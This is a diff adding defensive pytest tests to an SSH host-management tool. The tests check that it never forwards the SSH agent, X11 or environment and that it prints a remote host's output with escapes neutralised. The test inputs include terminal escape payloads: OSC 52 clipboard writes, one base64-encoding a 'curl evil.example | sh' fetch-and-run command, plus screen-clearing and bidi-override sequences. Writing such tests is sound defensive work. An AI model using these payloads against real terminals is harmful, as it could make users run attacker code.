@@ -6,6 +6,8 @@ import asyncio
 import re
 import signal
 import subprocess
+import time
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -132,3 +134,146 @@ async def test_check_says_when_sshd_refuses_channels_to_unix_sockets(sshd: Sshd)
         await conn.wait_closed()
     assert after.values["ssh_streamlocal"] == "0"
     assert any("AllowStreamLocalForwarding" in p for p in after.problems)
+
+
+# --------------------------------------------------------------------------- review 2
+
+
+def _hostile_ssh_config(home: Path) -> None:
+    """What many people have for every host, and what a malicious remote wants."""
+    (home / ".ssh" / "config").write_text(
+        "Host *\n"
+        "  ForwardAgent yes\n"
+        "  ForwardX11Trusted yes\n"
+        "  SendEnv PIWORK_LEAK\n"
+        "  SetEnv PIWORK_SET=planted\n"
+        "  RequestTTY force\n"
+    )
+
+
+@pytest.fixture
+def hostile_client(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+    """The client side of finding 9: that ssh_config, an agent, an X display, a secret."""
+    import os
+
+    _hostile_ssh_config(Path(os.environ["HOME"]))
+    agent_sock = tmp_path / "agent.sock"
+    agent = subprocess.Popen(["ssh-agent", "-D", "-a", str(agent_sock)],
+                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
+    try:
+        for _ in range(100):
+            if agent_sock.exists():
+                break
+            time.sleep(0.05)
+        monkeypatch.setenv("SSH_AUTH_SOCK", str(agent_sock))
+        monkeypatch.setenv("PIWORK_LEAK", "a local secret")
+        xauth = tmp_path / "Xauthority"
+        subprocess.run(["xauth", "-f", str(xauth), "add", ":99", "MIT-MAGIC-COOKIE-1",
+                        "0123456789abcdef0123456789abcdef"], check=True)  # fmt: skip
+        monkeypatch.setenv("XAUTHORITY", str(xauth))
+        monkeypatch.setenv("DISPLAY", ":99")
+        yield
+    finally:
+        agent.terminate()
+        agent.wait()
+
+
+async def test_ssh_config_never_forwards_the_agent_x11_or_environment(
+    sshd: Sshd, hostile_client: None
+) -> None:
+    """Review 2, finding 9: with ``ForwardAgent yes`` in ssh_config a malicious remote could
+    use the person's agent while piwork's long sessions run; X11 and SendEnv alike."""
+    import asyncssh
+
+    config = sshd.dir / "sshd_config"
+    config.write_text(
+        config.read_text()
+        .replace("LogLevel VERBOSE", "LogLevel DEBUG1")
+        .replace("X11Forwarding no", "X11Forwarding yes")
+    )
+    started = sshd.log.read_text().count("Server listening")
+    sshd.proc.send_signal(signal.SIGHUP)
+    for _ in range(100):
+        if sshd.log.read_text().count("Server listening") > started:
+            break
+        await asyncio.sleep(0.1)
+    show = 'echo "agent=$SSH_AUTH_SOCK|set=$PIWORK_SET|leak=$PIWORK_LEAK|display=$DISPLAY"'
+    host = sshd.host()
+
+    async def session(conn: asyncssh.SSHClientConnection) -> str:
+        before = len(sshd.log.read_text())
+        result = await conn.run(show, check=True)
+        conn.close()
+        await conn.wait_closed()
+        await asyncio.sleep(0.3)
+        return str(result.stdout).strip() + "\n" + sshd.log.read_text()[before:]
+
+    # The attack is real: a plain asyncssh connection follows the config.
+    control = await session(
+        await asyncssh.connect(
+            "127.0.0.1", port=sshd.port, username=sshd.user,
+            client_keys=[str(sshd.user_key)], known_hosts=None,
+        )
+    )  # fmt: skip
+    assert "set=planted" in control and "leak=a local secret" in control
+    assert "auth-agent-req" in control and "x11-req" in control
+    assert not control.startswith("agent=|")
+
+    pinned = await session(await connect(host, fingerprint_matcher(sshd.fingerprint, None)))
+    print(pinned)
+    assert pinned.startswith("agent=|set=|leak=|display=\n"), pinned
+    for request in ("auth-agent-req", "x11-req", "pty-req", "env"):
+        assert f"request {request}" not in pinned, request
+
+
+def test_hosts_check_prints_remote_text_inert(capsys: pytest.CaptureFixture[str]) -> None:
+    """Review 2, finding 7: the remote's probe output (its QEMU's version line, its system
+    name, its numbers) is untrusted; printed raw, it can write the clipboard."""
+    from piwork.cli.hosts_cmd import _print_report
+    from piwork.hosts.check import parse, report
+
+    osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
+    output = "\n".join(
+        [
+            f"qemu_path=/usr/bin/qemu{osc52}",
+            f"qemu_version=QEMU emulator version 9.9 {osc52}\x1b[1A\x1b[2K\u202e",
+            f"system=Plan9{osc52}\x9b2J",
+            "mem_available_kb=lots\x1b[2J",
+            "disk_free_kb=١٢٣",  # digits, but not ASCII ones
+            "kvm_exists=yes",
+            f"evil_key=1{osc52}",
+            "cpu_flags=" + "x" * 100_000,
+        ]
+    )
+    values = parse(output)
+    assert "mem_available_kb" not in values and "disk_free_kb" not in values
+    assert "kvm_exists" not in values and "evil_key" not in values and "cpu_flags" not in values
+    _print_report(store.parse_target("box", "a@box"), report(values))
+    out = capsys.readouterr().out
+    for raw in ("\x1b", "\x07", "\x9b", "\u202e"):
+        assert raw not in out, repr(raw)
+    assert "\\x1b]52;c;" in out  # shown escaped: the person sees something was there
+    assert "memory   0 MiB available" in out and "disk     0 GiB free" in out
+
+
+async def test_hosts_check_through_ssh_with_a_hostile_qemu(
+    sshd: Sshd, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The same through a real login: the remote's QEMU says what it likes for --version."""
+    from piwork.cli.hosts_cmd import _print_report
+
+    fake = tmp_path / "qemu-system-x86_64"
+    fake.write_text("#!/bin/sh\nprintf 'QEMU \\033]52;c;ZXZpbA==\\007\\033[2J version\\n'\n")
+    fake.chmod(0o755)
+    host = sshd.host()
+    conn = await connect(host, fingerprint_matcher(sshd.fingerprint, None))
+    try:
+        rep = await run_check(conn, host.root, qemu=str(fake), probe_sockets=False)
+    finally:
+        conn.close()
+        await conn.wait_closed()
+    assert rep.values["qemu_version"].startswith("QEMU \x1b]52")  # what the remote sent
+    _print_report(host, rep)
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out
+    assert "qemu     QEMU \\x1b]52;c;ZXZpbA==\\x07\\x1b[2J version" in out
